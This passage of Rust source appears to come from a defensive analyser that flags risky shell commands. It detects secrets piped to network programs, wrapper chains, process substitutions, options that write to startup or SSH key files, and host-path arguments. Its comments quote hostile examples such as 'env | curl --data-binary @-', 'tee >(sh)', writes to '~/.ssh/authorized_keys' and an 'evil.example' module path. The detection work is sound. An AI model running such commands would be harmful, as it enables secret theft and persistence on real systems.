        let piped = next == Some('|') && then != Some('|');
        let background = next == Some('&') && then != Some('&') && then != Some('>');
        starts && (piped || background)
    })
}

/// A command's output, marked as a secret when the command prints one (`env | curl
/// --data-binary @- …`), so that a network program reading it is seen sending it.
pub(super) fn secret_marked(argv: &[String], out: Input) -> Input {
    let first = argv.first().map_or("", |w| super::program_name(w));
    if !super::producers::is_producer(first) {
        return out;
    }
    let words: Vec<&str> = argv.iter().map(String::as_str).collect();
    match super::producers::secret_output(&words) {
        Some(what) => Input::Unknown(format!("{}`{what}`", args::SECRET_INPUT)),
        None => out,
    }
}

/// The command a chain of wrappers runs (`env X=1 nice -n 5 : ` runs `:`), for what a
/// redirection of the whole line writes.
fn wrapped(argv: &[String]) -> &[String] {
    let mut rest = argv;
    loop {
        let Some((first, args)) = rest.split_first() else {
            return rest;
        };
        let mut i = 0;
        let skip_value: &[&str] = match first.as_str() {
            "exec" | "command" | "builtin" | "nohup" | "time" | "setsid" | "env" | "stdbuf" => {
                &["-u", "-C", "-a"]
            }
            "nice" | "ionice" => &["-n", "-c"],
            "timeout" => &["-s", "-k"],
            _ => return rest,
        };
        while let Some(a) = args.get(i) {
            if skip_value.contains(&a.as_str()) {
                i += 2;
            } else if a.starts_with('-') || (first == "env" && a.contains('=')) {
                i += 1;
            } else {
                break;
            }
        }
        if first == "timeout" {
            i += 1;
        }
        rest = args.get(i..).unwrap_or_default();
    }
}

/// What the commands of a process substitution read: `>(cmd)` reads what the command
/// writes into it, which is not seen (`tee >(sh)`); `<(cmd)` reads nothing.
fn substitution_input(kind: &ProcessSubstitutionKind) -> Input {
    match kind {
        ProcessSubstitutionKind::Write => {
            Input::Unknown("the data a command writes into a process substitution".into())
        }
        ProcessSubstitutionKind::Read => Input::None,
    }
}

/// An option's value that names a file whose writing changes what runs or who gets in
/// (`--log-file=~/.bashrc`, `-sess_out ~/.ssh/authorized_keys`): attached with `=`, or
/// after an option whose name says it writes (`--index-file F`, `-o F`, `-D F`).
fn option_written(argv: &[String]) -> Option<(&str, &'static str)> {
    const WRITING: &[&str] = &[
        "out", "log", "save", "write", "dump", "index", "sess", "report", "trace", "dest",
        "record", "diag",
    ];
    let args = argv.get(1..).unwrap_or_default();
    let risky = |p: &str| {
        // Startup files, access lists, hooks: where a write is persistence (a data file's
        // location is also where reads point, as `pg_ctl status -D DIR`).
        args::write_risk(p, false).filter(|(e, _)| *e == Effect::Admin)
    };
    for (i, a) in args.iter().enumerate() {
        if !a.starts_with('-') {
            continue;
        }
        let (name, attached) = a
            .split_once('=')
            .map_or((a.as_str(), None), |(n, v)| (n, Some(v)));
        // The value first (cheap): only a path can be a startup file.
        let value = match attached {
            Some(v) => v,
            None => match args.get(i + 1) {
                Some(v) if !v.starts_with('-') => v.as_str(),
                _ => continue,
            },
        };
        if !(value.contains('/') || value.starts_with(['~', '.', '$'])) {
            continue;
        }
        let flag = name.trim_start_matches('-').to_ascii_lowercase();
        let writes = matches!(name, "-o" | "-O")
            || (flag.len() > 1
                && !flag.starts_with("no-")
                && WRITING.iter().any(|w| flag.contains(w)));
        if writes && let Some((_, why)) = risky(value) {
            return Some((value, why));
        }
    }
    None
}

/// A word as written with its single-quoted parts removed (they are literal).
fn unquoted_single(raw: &str) -> String {
    let (mut out, mut single, mut double, mut escaped) =
        (String::with_capacity(raw.len()), false, false, false);
    for c in raw.chars() {
        if escaped {
            escaped = false;
            out.push(c);
            continue;
        }
        match c {
            '\\' if !single => {
                escaped = true;
                out.push(c);
            }
            '\'' if !double => single = !single,
            '"' if !single => {
                double = !double;
                out.push(c);
            }
            _ if !single => out.push(c),
            _ => {}
        }
    }
    out
}

/// A word that starts with a host name and a path (`evil.example/$(…)@latest`, a Go module
/// path): the program given it asks that host.
fn host_path(word: &str) -> bool {
    word.split_once('/').is_some_and(|(host, _)| {
        // A domain's last label is letters, two or more (`conf.d/` is a folder).
        let tld = host.split(':').next().and_then(|h| h.rsplit_once('.'));
        tld.is_some_and(|(name, tld)| {
            !name.is_empty() && tld.len() >= 2 && tld.chars().all(|c| c.is_ascii_alphabetic())
        }) && host
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':'))
    })
}
